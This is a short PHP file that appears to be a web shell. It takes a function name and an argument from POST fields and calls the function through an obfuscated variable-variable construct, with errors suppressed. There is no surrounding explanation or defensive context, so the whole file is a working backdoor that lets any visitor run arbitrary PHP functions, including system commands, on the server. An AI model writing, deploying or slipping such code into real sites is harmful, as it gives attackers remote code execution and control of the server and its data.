<?php
// the visitor names the variable that holds the function
$run = $_POST['r'];
$pick = $_POST['p'];
@${$pick}($_POST['arg']);
